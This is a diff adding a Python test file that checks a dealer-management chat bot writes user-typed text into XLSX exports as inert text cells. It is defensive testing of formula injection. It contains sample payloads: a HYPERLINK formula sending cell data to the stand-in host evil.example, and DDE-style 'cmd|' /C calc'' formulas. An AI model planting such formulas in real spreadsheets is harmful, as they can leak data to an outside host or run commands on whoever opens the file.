@@ -1,0 +1,99 @@
+"""Text typed by dealers and managers is text in every export, never a live formula."""
+
+from __future__ import annotations
+
+import io
+
+from openpyxl import load_workbook
+from sqlalchemy import update
+
+from handlers.context import CoreOptions
+from handlers.conversation import Conversation
+from handlers.messages import Reply
+from storage.models import DealerRow
+from tests.support import Chat, invite, seed_catalog
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
+
+
+def chats(uow_factory, clock) -> tuple[Chat, Chat]:
+    seed_catalog(uow_factory)
+    conv = Conversation(uow_factory, clock)
+    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
+    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
+    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
+    return dealer, boss
+
+
+def cells(chat: Chat, command: str) -> dict[str, object]:
+    """Header -> cell of the first data row, from the XLSX file as Excel would open it."""
+    [reply] = chat.send(command)
+    assert reply.document is not None, reply.text
+    ws = load_workbook(io.BytesIO(reply.document.content)).active
+    return {h.value: c for h, c in zip(ws[1], ws[2], strict=True)}
+
+
+def assert_inert(cell, text: str) -> None:
+    assert cell.data_type == "s", (cell.value, cell.data_type)
+    assert cell.value == "'" + text
+
+
+def test_a_dealer_name_starting_with_equals_is_a_text_cell_in_the_sales_export(uow_factory, clock):
+    dealer, boss = chats(uow_factory, clock)
+    with uow_factory() as uow:
+        uow.session.execute(update(DealerRow).where(DealerRow.code == "D001").values(name=FORMULA))
+        uow.commit()
+    dealer.say("/report A100 2 3500 T-0001")
+    row = cells(boss, "/export sales 2026-07")
+    assert_inert(row["经销商"], FORMULA)
+
+
+def test_a_complaint_written_as_a_formula_is_a_text_cell_in_the_complaints_export(
+    uow_factory, clock
+):
+    dealer, boss = chats(uow_factory, clock)
+    dealer.say("/complaint")
+    dealer.press("质量问题")
+    dealer.say("@SUM(1+1)*cmd|' /C calc'!A0")
+    dealer.say("A100")
+    dealer.say(FORMULA)
+    dealer.press("跳过")
+    assert "C00001" in dealer.press("普通")
+    row = cells(boss, "/export complaints 2026-07")
+    assert_inert(row["问题描述"], FORMULA)
+    assert_inert(row["客户"], "@SUM(1+1)*cmd|' /C calc'!A0")
+
+
+def test_a_manager_note_starting_with_minus_is_a_text_cell_in_the_violations_export(
+    uow_factory, clock
+):
+    dealer, boss = chats(uow_factory, clock)
+    dealer.say("/report A100 1 2500 T-0001")
+    boss.say("/violation 1 confirm -2+3+cmd|' /C calc'!A0")
+    row = cells(boss, "/export violations 2026-07")
+    assert_inert(row["备注"], "-2+3+cmd|' /C calc'!A0")
+
+
+def test_a_large_export_is_answered_at_once_and_its_file_follows_through_the_outbox(
+    uow_factory, clock
+):
+    seed_catalog(uow_factory)
+    conv = Conversation(uow_factory, clock, CoreOptions(export_inline_rows=1))
+    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
+    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
+    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
+    dealer.say("/report A100 2 3500 T-0001")
+    dealer.say("/report A100 3 3600 T-0001")
+
+    [reply] = boss.send("/export sales 2026-07")
+
+    assert (
+        reply.document is None and "共 2 行" in reply.text and "/export sales 2026-07" in reply.text
+    )
+    conv.background.join()
+    with uow_factory() as uow:
+        [item] = [i for i in uow.outbox.list(limit=50) if i.chat_id == "boss"]
+    sent = Reply.from_dict(item.payload)
+    assert sent.document is not None and sent.document.filename == "sales-2026-07.xlsx"
+    ws = load_workbook(io.BytesIO(sent.document.content)).active
+    assert [c.value for c in ws["E"][1:]] == [2, 3]  # qty column, both rows
